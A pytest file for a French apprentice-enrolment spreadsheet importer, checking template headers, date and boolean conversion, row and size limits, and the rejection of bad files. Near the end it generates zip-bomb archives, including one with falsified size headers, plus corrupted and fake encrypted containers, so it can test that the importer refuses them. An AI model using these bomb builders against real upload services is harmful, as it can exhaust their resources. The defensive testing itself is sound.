"""Unit tests of the transmissions.excel package: every file is generated here (tests/data/README.md), no database."""

import csv
import datetime as dt
import io
import struct
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from transmissions.excel import (
    COLUMNS,
    ERROR_CODES,
    IMPORT_KEYS,
    MAX_ROWS,
    REQUIRED_KEYS,
    TEMPLATE_HEADERS,
    TEMPLATE_NOTES,
    ExcelImportError,
    build_template,
    check_file_size,
    compute_id_erp_apprenant,
    convert_cell,
    cyrb53,
    header_to_key,
    neutralize_formula,
    parse_file,
    xlsx_bytes,
)

# The spec's lists (pages-import-sifa.md §2.2), copied verbatim so that a change of the module shows here.
SPEC_HEADERS = [
    "nom_apprenant *", "prenom_apprenant *", "date_de_naissance_apprenant *", "sexe_apprenant *",
    "code_postal_de_naissance_apprenant", "email_contact *", "adresse_apprenant *", "code_postal_apprenant *",
    "ine_apprenant", "tel_apprenant", "rqth_apprenant", "date_rqth_apprenant", "responsable_apprenant_mail1",
    "responsable_apprenant_mail2", "dernier_organisme_uai", "derniere_situation", "type_cfa",
    "etablissement_responsable_uai *", "etablissement_responsable_siret *", "etablissement_formateur_uai *",
    "etablissement_formateur_siret *", "etablissement_lieu_de_formation_uai", "etablissement_lieu_de_formation_siret",
    "etablissement_lieu_de_formation_adresse", "etablissement_lieu_de_formation_code_postal", "annee_scolaire *",
    "annee_formation *", "formation_rncp *", "formation_cfd", "date_inscription_formation *",
    "date_entree_formation *", "date_fin_formation *", "duree_theorique_formation_mois *", "libelle_court_formation",
    "obtention_diplome_formation", "date_obtention_diplome_formation", "date_exclusion_formation **",
    "cause_exclusion_formation", "formation_presentielle", "nom_referent_handicap_formation",
    "prenom_referent_handicap_formation", "email_referent_handicap_formation", "contrat_date_debut **",
    "contrat_date_fin **", "siret_employeur **", "contrat_date_rupture **", "cause_rupture_contrat",
    "contrat_date_debut_2 **", "contrat_date_fin_2**", "siret_employeur_2 **", "contrat_date_rupture_2 **",
    "cause_rupture_contrat_2", "contrat_date_debut_3 **", "contrat_date_fin_3 **", "siret_employeur_3 **",
    "contrat_date_rupture_3 **", "cause_rupture_contrat_3", "contrat_date_debut_4 **", "contrat_date_fin_4 **",
    "siret_employeur_4 **", "contrat_date_rupture_4 **", "cause_rupture_contrat_4",
]  # fmt: skip
SPEC_KEYS = [
    "nom_apprenant", "prenom_apprenant", "date_de_naissance_apprenant", "sexe_apprenant",
    "code_postal_de_naissance_apprenant", "code_commune_insee_de_naissance_apprenant", "email_contact",
    "adresse_apprenant", "code_postal_apprenant", "code_commune_insee_apprenant", "ine_apprenant", "tel_apprenant",
    "rqth_apprenant", "date_rqth_apprenant", "responsable_apprenant_mail1", "responsable_apprenant_mail2",
    "dernier_organisme_uai", "derniere_situation", "type_cfa", "etablissement_responsable_uai",
    "etablissement_responsable_siret", "etablissement_formateur_uai", "etablissement_formateur_siret",
    "etablissement_lieu_de_formation_uai", "etablissement_lieu_de_formation_siret",
    "etablissement_lieu_de_formation_adresse", "etablissement_lieu_de_formation_code_postal", "annee_scolaire",
    "annee_formation", "formation_rncp", "formation_cfd", "date_inscription_formation", "date_entree_formation",
    "date_fin_formation", "duree_theorique_formation_mois", "libelle_court_formation", "obtention_diplome_formation",
    "date_obtention_diplome_formation", "date_exclusion_formation", "cause_exclusion_formation",
    "formation_presentielle", "nom_referent_handicap_formation", "prenom_referent_handicap_formation",
    "email_referent_handicap_formation", "contrat_date_debut", "contrat_date_fin", "siret_employeur",
    "contrat_date_rupture", "cause_rupture_contrat", "contrat_date_debut_2", "contrat_date_fin_2",
    "siret_employeur_2", "contrat_date_rupture_2", "cause_rupture_contrat_2", "contrat_date_debut_3",
    "contrat_date_fin_3", "siret_employeur_3", "contrat_date_rupture_3", "cause_rupture_contrat_3",
    "contrat_date_debut_4", "contrat_date_fin_4", "siret_employeur_4", "contrat_date_rupture_4",
    "cause_rupture_contrat_4",
]  # fmt: skip

TOO_MANY_ROWS = (
    "Pour des raisons techniques et de sécurité, votre fichier ne doit pas dépasser 2000 lignes. Veuillez téléverser "
    "un premier fichier de 2000 lignes/effectifs et renouveler l'opération avec un deuxième fichier comprenant le "
    "nombre de lignes restantes."
)
NOT_CONFORM = (
    "Le format de votre fichier n'est pas conforme. Veuillez respecter celui du fichier-modèle Excel téléchargeable."
)
CORRUPT = (
    "Le fichier est endommagé et ne peut pas être lu. Veuillez l'ouvrir dans Excel, l'enregistrer au format .xlsx "
    "puis l'importer à nouveau."
)
SUSPECT = (
    "Le contenu de ce fichier est anormalement volumineux une fois décompressé ; il a été refusé par sécurité. "
    "Veuillez l'ouvrir dans Excel, l'enregistrer au format .xlsx puis l'importer à nouveau."
)
NOT_SPREADSHEET = (
    "Ce fichier n'est pas un fichier Excel (.xlsx) ou CSV lisible. Veuillez importer le fichier-modèle Excel "
    "téléchargeable, rempli avec vos effectifs."
)
XLS = (
    "Le format .xls (Excel 97-2003) n'est pas pris en charge. Veuillez enregistrer votre fichier au format .xlsx "
    "(Fichier > Enregistrer sous > Classeur Excel) puis l'importer à nouveau."
)
PROTECTED = (
    "Ce fichier est protégé par un mot de passe. Veuillez retirer la protection (dans Excel : Fichier > Informations "
    "> Protéger le classeur > Chiffrer avec mot de passe, puis effacer le mot de passe), l'enregistrer puis "
    "l'importer à nouveau."
)
ENCODING = (
    "Le fichier CSV n'a pas pu être lu : son encodage n'est pas reconnu. Veuillez l'enregistrer au format « CSV "
    "UTF-8 » ou au format .xlsx puis l'importer à nouveau."
)

# ----------------------------------------------------------------------------------------------------------------------
# File builders (every test file is generated, none is committed)
# ----------------------------------------------------------------------------------------------------------------------


def make_xlsx(rows, *, title="Feuil1"):
    """An .xlsx written by openpyxl, values as given (dates, numbers, booleans stay typed)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


_CT = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="xl/workbook.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_WB_SHEETS = '<sheets><sheet name="Feuil1" sheetId="1" r:id="rId1"/></sheets>'
_WB = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">{sheets}</workbook>'
)
_WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>'
)


# What Excel writes around the cells (namespaces, margins, page setup), for the fast-path test.
EXCEL_NAMESPACES = (
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac" '
    'xmlns:xr="http://schemas.microsoft.com/office/spreadsheetml/2014/revision" '
    'mc:Ignorable="x14ac xr" xr:uid="{15112A31-39CF-4098-B53E-DC2141299FDD}"'
)
EXCEL_TAIL = (
    '<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/>'
    '<pageSetup paperSize="9" firstPageNumber="1" useFirstPageNumber="1" orientation="portrait" r:id="rId1"/>'
)


def make_raw_xlsx(sheet_data, *, sheets=_WB_SHEETS, namespaces="", tail=""):
    """A minimal .xlsx package written by hand, to control the XML (cached formula values, far cells...)."""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet '
        f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" {namespaces}>'
        f"<sheetData>{sheet_data}</sheetData>{tail}</worksheet>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CT)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WB.format(sheets=sheets))
        archive.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return buffer.getvalue()


def inline(ref, text):
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def make_csv(rows, *, delimiter=";", encoding="utf-8"):
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode(encoding)


def assert_refused(code, message, *, filename="effectifs.xlsx", content, **kwargs):
    with pytest.raises(ExcelImportError) as caught:
        parse_file(filename=filename, content=content, **kwargs)
    assert caught.value.code == code
    assert caught.value.message == message
    assert str(caught.value) == message
    return caught.value


HEADERS = ["nom_apprenant *", "prenom_apprenant *", "date_de_naissance_apprenant *", "annee_formation *"]


# ----------------------------------------------------------------------------------------------------------------------
# Template
# ----------------------------------------------------------------------------------------------------------------------


def test_headers_and_keys_are_the_spec_lists():
    assert list(TEMPLATE_HEADERS) == SPEC_HEADERS
    assert len(TEMPLATE_HEADERS) == 62
    assert list(IMPORT_KEYS) == SPEC_KEYS
    assert len(IMPORT_KEYS) == 64
    assert [header_to_key(h) for h in SPEC_HEADERS] == [k for k in SPEC_KEYS if "insee" not in k]
    assert set(REQUIRED_KEYS) == {header_to_key(h) for h in SPEC_HEADERS if h.endswith(" *")}
    assert len(REQUIRED_KEYS) == 18


def test_template_sheets_layout():
    workbook = openpyxl.load_workbook(io.BytesIO(build_template()))
    assert workbook.sheetnames == ["Modèle", "Description des données"]

    model = workbook["Modèle"]
    assert model.freeze_panes == "A2"
    assert [c.value for c in model[1]] == SPEC_HEADERS
    assert model.max_row == 2
    for number, column in enumerate(COLUMNS, start=1):
        example = model.cell(2, number)
        if column.kind == "date":
            assert example.is_date, column.key
        if column.key in {"etablissement_formateur_uai", "etablissement_formateur_siret", "code_postal_apprenant",
                          "formation_cfd", "tel_apprenant", "siret_employeur_3", "type_cfa"}:  # fmt: skip
            assert example.number_format == "@", column.key
            assert example.data_type == "s", column.key
            letter = example.column_letter
            assert model.column_dimensions[letter].number_format == "@", column.key
    assert model["K2"].value is True  # rqth_apprenant, a real boolean cell

    description = workbook["Description des données"]
    rows = list(description.iter_rows(values_only=True))
    assert rows[0] == ("Nom du champ", "Obligatoire", "Description", "Format", "Exemple")
    sections = [row[0] for row in rows[1:] if row[0] and row[0].startswith("Informations")]
    assert [row[0] for row in rows[-3:]] == list(TEMPLATE_NOTES)
    assert sections == [
        "Informations concernant l'apprenant",
        "Informations concernant l'organisme de formation",
        "Informations concernant la formation suivie",
        "Informations concernant l'employeur et le contrat",
    ]
    fields = {row[0]: row for row in rows[1:] if row[1] is not None}
    assert len(fields) == 62
    assert sorted(fields) == sorted(SPEC_HEADERS)
    assert fields["nom_apprenant *"][1] == "Oui"
    assert fields["contrat_date_fin_2**"][1] == "Si pertinent"
    assert fields["ine_apprenant"][1] == "Non"
    assert "01" in fields["type_cfa"][2] and "Autre CFA privé : 10" in fields["type_cfa"][2]
    assert "4101 pour un apprenti" in fields["derniere_situation"][2]
    assert fields["date_de_naissance_apprenant *"][4] == "24/01/1998"
    assert all(row[2] and row[3] for row in fields.values())


def test_template_round_trip():
    parsed = parse_file(filename="modele-import.xlsx", content=build_template())

    assert parsed.columns_found == [k for k in SPEC_KEYS if "insee" not in k]
    assert parsed.unknown_columns == []
    assert parsed.missing_required_columns == []
    assert parsed.source_format == "xlsx"
    [row] = parsed.rows
    assert row.line == 2
    values = row.values
    assert list(values) == [*SPEC_KEYS, "id_erp_apprenant"]
    assert values["nom_apprenant"] == "Dupuis"
    assert values["date_de_naissance_apprenant"] == "1998-01-24"  # serial 35819
    assert values["date_rqth_apprenant"] == "2023-08-22"  # 45160
    assert values["date_entree_formation"] == "2022-09-28"  # 44832
    assert values["contrat_date_debut"] == "2023-01-11"  # 44937
    assert values["contrat_date_fin_2"] == "2024-06-11"  # 45454, through the "contrat_date_fin_2**" header
    assert values["code_postal_de_naissance_apprenant"] == "44400"
    assert values["tel_apprenant"] == "0612345678"
    assert values["dernier_organisme_uai"] == "0123456A"
    assert values["etablissement_responsable_siret"] == "12345678901235"
    assert values["type_cfa"] == "10"
    assert values["formation_cfd"] == "50022145"
    assert values["annee_scolaire"] == "2024-2025"
    assert values["annee_formation"] == 2
    assert values["duree_theorique_formation_mois"] == 12
    assert values["derniere_situation"] == 4101
    assert values["rqth_apprenant"] is True
    assert values["formation_presentielle"] is True
    assert values["code_commune_insee_apprenant"] is None
    assert row.id_erp_apprenant == values["id_erp_apprenant"] == cyrb53("gastondupuis1998-01-24")


# ----------------------------------------------------------------------------------------------------------------------
# CSV
# ----------------------------------------------------------------------------------------------------------------------

CSV_ROWS = [
    ["nom_apprenant *", "prenom_apprenant *", "date_de_naissance_apprenant *", "rqth_apprenant", "adresse_apprenant *"],
    ["Lefèvre", "Zoé", "24/01/1998", "oui", "3, rue de l'Église"],
    ["Müller", "Noël", "2001-12-31", "NON", ""],
]


@pytest.mark.parametrize("delimiter", [";", ","])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
def test_csv_encodings_and_delimiters(encoding, delimiter):
    parsed = parse_file(filename="export.CSV", content=make_csv(CSV_ROWS, delimiter=delimiter, encoding=encoding))

    assert parsed.source_format == "csv"
    assert parsed.columns_found == [
        "nom_apprenant", "prenom_apprenant", "date_de_naissance_apprenant", "rqth_apprenant", "adresse_apprenant",
    ]  # fmt: skip
    first, second = parsed.rows
    assert (first.line, second.line) == (2, 3)
    assert first.values["nom_apprenant"] == "Lefèvre"
    assert first.values["prenom_apprenant"] == "Zoé"
    assert first.values["date_de_naissance_apprenant"] == "1998-01-24"
    assert first.values["rqth_apprenant"] is True
    assert first.values["adresse_apprenant"] == "3, rue de l'Église"
    assert second.values["date_de_naissance_apprenant"] == "2001-12-31"
    assert second.values["rqth_apprenant"] is False
    assert second.values["adresse_apprenant"] is None
    assert first.id_erp_apprenant == cyrb53("zoelefevre1998-01-24")


def test_csv_keeps_leading_zeros_tabs_and_sep_hint():
    rows = [["code_postal_apprenant *", "etablissement_formateur_siret *", "annee_formation *"], ["01000", "0123", "2"]]
    for content in (
        make_csv(rows, delimiter="\t"),
        b"sep=,\r\n" + make_csv(rows, delimiter=","),
        "\ufeff".encode("utf-16-le") + make_csv(rows, delimiter="\t", encoding="utf-16-le"),
    ):
        parsed = parse_file(filename="export.csv", content=content)
        [row] = parsed.rows
        assert row.line == 2
        assert row.values["code_postal_apprenant"] == "01000"
        assert row.values["etablissement_formateur_siret"] == "0123"
        assert row.values["annee_formation"] == 2


def test_csv_ragged_rows_and_blank_lines():
    content = b"nom_apprenant;prenom_apprenant;sexe_apprenant\r\nDupuis\r\n;;\r\n\r\nMartin;Paul;M;extra\r\n"
    parsed = parse_file(filename="export.csv", content=content)
    assert [(r.line, r.values["nom_apprenant"], r.values["sexe_apprenant"]) for r in parsed.rows] == [
        (2, "Dupuis", None),
        (5, "Martin", "M"),
    ]


# ----------------------------------------------------------------------------------------------------------------------
# Headers
# ----------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "key"),
    [
        ("nom_apprenant *", "nom_apprenant"),
        ("  NOM_APPRENANT * ", "nom_apprenant"),
        ("*nom_apprenant*", "nom_apprenant"),
        ("contrat_date_fin_2**", "contrat_date_fin_2"),
        ("Nom apprenant", "nom_apprenant"),
        ("Prénom-apprenant", "prenom_apprenant"),
        ("date de naissance  apprenant *", "date_de_naissance_apprenant"),
        ("etablissement_formateur_siret\u00a0*", "etablissement_formateur_siret"),
        ("contrat_date_debut_1", "contrat_date_debut"),
        ("siret_employeur_1 **", "siret_employeur"),
        ("code_commune_insee_apprenant", "code_commune_insee_apprenant"),
        ("nom", None),
        ("nom_apprenant_2", None),
        ("contrat_date_debut_5", None),
        ("duree_theorique_formation", None),  # legacy API field, not an import column
        (2024, None),
        (None, None),
    ],
)
def test_header_to_key(header, key):
    assert header_to_key(header) == key


def test_columns_found_unknown_duplicate_and_missing():
    content = make_xlsx(
        [
            [None, None, "Commentaire", "nom apprenant", "PRENOM_APPRENANT", "nom_apprenant *", "email_contact *"],
            [None, None, "à rappeler", "Dupuis", "Gaston", "Doublon", "g@d.tld"],
        ]
    )
    parsed = parse_file(filename="effectifs.xlsx", content=content)
    assert parsed.columns_found == ["nom_apprenant", "prenom_apprenant", "email_contact"]
    assert parsed.unknown_columns == ["Commentaire"]
    assert parsed.duplicate_columns == ["nom_apprenant *"]
    assert parsed.rows[0].values["nom_apprenant"] == "Dupuis"  # the first column wins
    assert parsed.missing_required_columns == [
        k for k in REQUIRED_KEYS if k not in {"nom_apprenant", "prenom_apprenant", "email_contact"}
    ]
    assert "date_de_naissance_apprenant" in parsed.missing_required_columns
    assert "etablissement_lieu_de_formation_uai" not in parsed.missing_required_columns  # not starred


# ----------------------------------------------------------------------------------------------------------------------
# Cell conversions
# ----------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (35819, "1998-01-24"),
        (35819.0, "1998-01-24"),
        (35819.99, "1998-01-24"),  # the time of day is dropped
        (61, "1900-03-01"),
        (dt.date(2024, 2, 29), "2024-02-29"),
        (dt.datetime(2024, 2, 29, 23, 59), "2024-02-29"),
        ("1998-01-24", "1998-01-24"),
        (" 1998-01-24T00:00:00 ", "1998-01-24"),
        ("1998-01-24 00:00", "1998-01-24"),
        ("24/01/1998", "1998-01-24"),
        ("4/1/1998", "1998-01-04"),
        ("24.01.1998", "1998-01-24"),
        ("24/01/98", "1998-01-24"),
        ("24/01/40", "2040-01-24"),  # pivot: YY <= 40 is 20YY
        ("24/01/41", "1941-01-24"),
        ("24/01/00", "2000-01-24"),
        ("31/02/2024", "31/02/2024"),  # kept as text: the validator says "Date invalide"
        ("2024-13-01", "2024-13-01"),
        ("demain", "demain"),
        (20240115, "20240115"),  # not a plausible serial (year > 9999): kept as text
        (-3, "-3"),
        (True, "VRAI"),
        ("", None),
        ("   ", None),
        (None, None),
    ],
)
def test_date_conversion(value, expected):
    assert convert_cell("date_de_naissance_apprenant", value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (True, True),
        (False, False),
        (1, True),
        (1.0, True),
        (0, False),
        ("oui", True),
        (" OUI ", True),
        ("VRAI", True),
        ("vrai", True),
        ("1", True),
        ("true", True),
        ("non", False),
        ("Faux", False),
        ("0", False),
        ("FALSE", False),
        ("peut-être", "peut-être"),  # kept: the validator says "Format invalide" instead of guessing
        (2, "2"),
        ("", None),
        (None, None),
    ],
)
def test_boolean_conversion(value, expected):
    result = convert_cell("rqth_apprenant", value)
    assert result == expected
    assert type(result) is type(expected)


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("etablissement_formateur_siret", 7.7937827200016e13, "77937827200016"),
        ("etablissement_formateur_siret", 77937827200016, "77937827200016"),
        ("code_postal_apprenant", 1000.0, "1000"),  # the leading zero Excel dropped cannot be restored
        ("code_postal_apprenant", " 01000 ", "01000"),
        ("nom_apprenant", "  Dupuis ", "Dupuis"),
        ("nom_apprenant", 12.5, "12.5"),
        ("nom_apprenant", True, "VRAI"),
        ("nom_apprenant", 0.0, "0"),
        ("adresse_apprenant", dt.date(2024, 1, 2), "2024-01-02"),
        ("type_cfa", 4.0, "4"),
        ("annee_formation", 2.0, 2),
        ("annee_formation", 0.0, 0),  # the reference turned 0 into null
        ("annee_formation", "2", 2),
        ("annee_formation", " 3 ", 3),
        ("annee_formation", 1.5, 1.5),
        ("annee_formation", "deux", "deux"),
        ("duree_theorique_formation_mois", 24.0, 24),
        ("derniere_situation", "4101", 4101),
        ("derniere_situation", None, None),
    ],
)
def test_text_and_integer_conversion(key, value, expected):
    result = convert_cell(key, value)
    assert result == expected
    assert type(result) is type(expected)


def test_xlsx_typed_cells_blank_rows_and_line_numbers():
    content = make_xlsx(
        [
            [],
            ["Commentaire", *HEADERS, "etablissement_formateur_siret *", "rqth_apprenant", "code_postal_apprenant *"],
            [None, "Dupuis", "Gaston", dt.date(1998, 1, 24), 2, 77937827200016, True, 44000],
            [None, None, None, 35819, None, None, None, None],  # no text at all: the reference dropped it
            [],
            ["une note seule", None, None, None, None, None, None, None],  # nothing in a known column: skipped
            [None, "Martin", "Léa", "24/01/98", "2", "779 378 272 00016", "NON", "01000"],
        ]
    )
    parsed = parse_file(filename="effectifs.xlsx", content=content)

    assert [r.line for r in parsed.rows] == [3, 4, 7]
    first, numbers_only, last = (r.values for r in parsed.rows)
    assert first["date_de_naissance_apprenant"] == "1998-01-24"
    assert first["annee_formation"] == 2
    assert first["etablissement_formateur_siret"] == "77937827200016"
    assert first["rqth_apprenant"] is True
    assert first["code_postal_apprenant"] == "44000"
    assert numbers_only["date_de_naissance_apprenant"] == "1998-01-24"
    assert numbers_only["nom_apprenant"] is None
    assert last["date_de_naissance_apprenant"] == "1998-01-24"
    assert last["annee_formation"] == 2
    assert last["etablissement_formateur_siret"] == "779 378 272 00016"  # cleaned by the validator
    assert last["rqth_apprenant"] is False
    assert last["code_postal_apprenant"] == "01000"


def test_only_the_first_sheet_is_read_whatever_the_file_name():
    workbook = openpyxl.Workbook()
    workbook.active.append(HEADERS)
    workbook.active.append(["Dupuis", "Gaston", 35819, 2])
    other = workbook.create_sheet("Listes")
    other.append(["nom_apprenant"])
    other.append(["Ignoré"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    for filename in ("effectifs.xlsx", "EFFECTIFS.XLSX", "effectifs", "effectifs.csv"):
        parsed = parse_file(filename=filename, content=buffer.getvalue())
        assert [r.values["nom_apprenant"] for r in parsed.rows] == ["Dupuis"], filename


def test_header_only_file_gives_no_rows():
    parsed = parse_file(filename="effectifs.xlsx", content=make_xlsx([HEADERS, [None, "  ", None, None]]))
    assert parsed.rows == []


# ----------------------------------------------------------------------------------------------------------------------
# Row limit
# ----------------------------------------------------------------------------------------------------------------------


def _many_rows(count):
    return [HEADERS, *([f"Nom{i}", "Prénom", 35819 + i, 1] for i in range(count))]


def test_2000_rows_are_accepted():
    assert MAX_ROWS == 2000
    parsed = parse_file(filename="effectifs.xlsx", content=make_xlsx(_many_rows(2000)))
    assert len(parsed.rows) == 2000
    assert parsed.rows[-1].line == 2001
    assert len({r.id_erp_apprenant for r in parsed.rows}) == 2000


def test_2001_rows_are_refused():
    assert_refused("trop_de_lignes", TOO_MANY_ROWS, content=make_xlsx(_many_rows(2001)))
    assert_refused("trop_de_lignes", TOO_MANY_ROWS, filename="effectifs.csv", content=make_csv(_many_rows(2001)))


def test_blank_rows_do_not_count_towards_the_limit():
    rows = _many_rows(2000)
    rows[1000:1000] = [[None, "", None, None]] * 50
    assert len(parse_file(filename="effectifs.xlsx", content=make_xlsx(rows)).rows) == 2000


def test_row_limit_is_configurable():
    assert_refused(
        "trop_de_lignes",
        TOO_MANY_ROWS.replace("2000", "10"),
        content=make_xlsx(_many_rows(11)),
        max_rows=10,
    )


# ----------------------------------------------------------------------------------------------------------------------
# Bad files
# ----------------------------------------------------------------------------------------------------------------------


def test_empty_file():
    assert_refused(
        "fichier_vide", "Le fichier est vide. Veuillez sélectionner un fichier contenant vos effectifs.", content=b""
    )


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("effectifs.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"),
        ("effectifs.xlsx", bytes(range(256)) * 40),
        ("effectifs.pdf", b"%PDF-1.7\n"),
        ("effectifs.ods", b"nom_apprenant\nDupuis\n"),
        ("effectifs", b"nom_apprenant\nDupuis\n"),
    ],
)
def test_not_a_spreadsheet(filename, content):
    assert_refused("fichier_non_tableur", NOT_SPREADSHEET, filename=filename, content=content)


def test_zip_that_is_not_a_workbook():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
    assert_refused("fichier_non_tableur", NOT_SPREADSHEET, content=buffer.getvalue())


def test_opendocument_spreadsheet():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
    assert_refused(
        "format_ods",
        "Le format OpenDocument (.ods) n'est pas pris en charge. Veuillez enregistrer votre fichier au format .xlsx "
        "(Fichier > Enregistrer sous > Excel 2007-365) puis l'importer à nouveau.",
        filename="effectifs.ods",
        content=buffer.getvalue(),
    )


def _cfb(*stream_names):
    """Raw bytes of an OLE2/CFB container: the magic, then directory entries named in UTF-16LE."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    directory = b"".join(name.encode("utf-16-le").ljust(64, b"\x00") + b"\x00" * 64 for name in stream_names)
    return header.ljust(512, b"\x00") + directory.ljust(512, b"\x00")


def test_password_protected_xlsx():
    content = _cfb("Root Entry", "EncryptionInfo", "EncryptedPackage", "\x06DataSpaces")
    assert_refused("fichier_protege", PROTECTED, content=content)


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("effectifs.xls", _cfb("Root Entry", "Workbook")),
        ("effectifs.xlsx", _cfb("Root Entry", "Workbook")),  # an old .xls renamed
        ("effectifs.xls", b"<html><table><tr><td>nom_apprenant</td></tr></table></html>"),  # ERP "xls" exports
    ],
)
def test_legacy_xls(filename, content):
    assert_refused("format_xls", XLS, filename=filename, content=content)


def test_file_too_large_is_refused_before_parsing():
    big = b"PK\x03\x04" + b"\x00" * (50 * 1024 * 1024 - 4)  # would be "corrupt" if it were parsed
    message = "Votre fichier est trop volumineux (50 Mo). La taille maximale autorisée est de 10 Mo."
    assert_refused("fichier_trop_volumineux", message, content=big)
    with pytest.raises(ExcelImportError) as caught:
        check_file_size(50 * 1024 * 1024)
    assert caught.value.code == "fichier_trop_volumineux"
    check_file_size(10 * 1024 * 1024)  # the limit itself is allowed


def test_size_limit_is_configurable():
    content = make_xlsx(_many_rows(1))
    assert parse_file(filename="effectifs.xlsx", content=content, max_bytes=len(content)).rows
    error = assert_refused(
        "fichier_trop_volumineux",
        "Votre fichier est trop volumineux (5,2 Mo). La taille maximale autorisée est de 1 Mo.",
        content=b"x" * (5 * 1024 * 1024 + 200 * 1024),
        max_bytes=1024 * 1024,
    )
    assert "Mo" in error.message


def _zip_with_zeros(size, *, with_workbook=True):
    """A zip holding `size` bytes of zeros in one entry, written by chunks (no big allocation)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if with_workbook:
            archive.writestr("xl/workbook.xml", _WB.format(sheets=_WB_SHEETS))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(size // len(chunk)):
                entry.write(chunk)
    return buffer.getvalue()


def test_zip_bomb_over_the_total_limit():
    content = _zip_with_zeros(200 * 1024 * 1024)
    assert len(content) < 1024 * 1024  # ~200 KB on disk
    assert_refused("archive_suspecte", SUSPECT, content=content)


def test_zip_bomb_by_compression_ratio():
    assert_refused("archive_suspecte", SUSPECT, content=_zip_with_zeros(20 * 1024 * 1024))


def test_zip_bomb_with_lying_sizes():
    """The central directory and local header announce 1 000 bytes; the deflate stream inflates to 900 KB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", _WB.format(sheets=_WB_SHEETS))
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * 900_000)
    content = bytearray(buffer.getvalue())
    local = zipfile.ZipFile(buffer).getinfo("xl/worksheets/sheet1.xml").header_offset
    central = content.index(b"PK\x01\x02", content.index(b"PK\x01\x02") + 4)  # the second entry's record
    struct.pack_into("<I", content, local + 22, 1000)
    struct.pack_into("<I", content, central + 24, 1000)
    assert zipfile.ZipFile(io.BytesIO(bytes(content))).getinfo("xl/worksheets/sheet1.xml").file_size == 1000
    assert_refused("archive_suspecte", SUSPECT, content=bytes(content))


def test_corrupt_zip():
    good = make_xlsx(_many_rows(50))
    assert_refused("fichier_corrompu", CORRUPT, content=good[: len(good) // 2])
    assert_refused("fichier_corrompu", CORRUPT, content=b"PK\x03\x04" + b"garbage" * 10)
    # One byte flipped inside the compressed sheet: inflating fails or the CRC does not match.
    info = zipfile.ZipFile(io.BytesIO(good)).getinfo("xl/worksheets/sheet1.xml")
    damaged = bytearray(good)
    damaged[info.header_offset + 30 + len(info.filename) + info.compress_size // 2] ^= 0xFF
    assert_refused("fichier_corrompu", CORRUPT, content=bytes(damaged))


def test_workbook_without_sheet():
    assert_refused(
        "feuille_absente",
        "Impossible de charger la première feuille du fichier Excel",
        content=make_raw_xlsx("", sheets="<sheets/>"),
    )


